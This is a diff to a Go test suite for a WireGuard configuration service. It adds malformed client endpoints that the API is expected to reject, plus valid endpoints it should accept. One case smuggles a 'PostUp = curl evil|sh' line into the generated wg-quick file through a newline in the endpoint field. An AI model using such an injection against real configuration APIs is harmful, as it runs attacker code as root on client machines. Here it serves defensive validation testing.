@@ -253,9 +253,20 @@ func TestClients_StockWireGuardFromGeneratedConfig(t *testing.T) {
 		{Name: "x3", Address: netip.MustParseAddr("10.42.7.9"), Endpoint: "192.0.2.1:1"}, // another host's /24
 		{Name: "x4", PublicKey: a.priv.Public().String(), Endpoint: "192.0.2.1:1"},
 		{Name: "Bad Name", Endpoint: "192.0.2.1:1"},
+		// A hostile API caller smuggling a PostUp line into the client's wg-quick file
+		// (wg-quick runs it as root on the client), or other junk, is refused.
+		{Name: "x5", Endpoint: "vpn.example.com\nPostUp = curl evil|sh\n#:51820"},
+		{Name: "x6", Endpoint: "vpn example.com:51820"},
+		{Name: "x7", Endpoint: "vpn.example.com:0"},
+		{Name: "x8", Endpoint: "vpn.example.com"},
 	} {
 		if _, code, body := postClient(t, srv, bad); code == http.StatusOK {
 			t.Errorf("%+v accepted: %s", bad, body)
+		}
+	}
+	for _, good := range []string{"vpn.example.com:51820", "[2001:db8::1]:51820"} {
+		if err := validEndpoint(good); err != nil {
+			t.Errorf("endpoint %q refused: %v", good, err)
 		}
 	}
 	if ip, ok := a.clientAddr("phone"); !ok || ip != client {
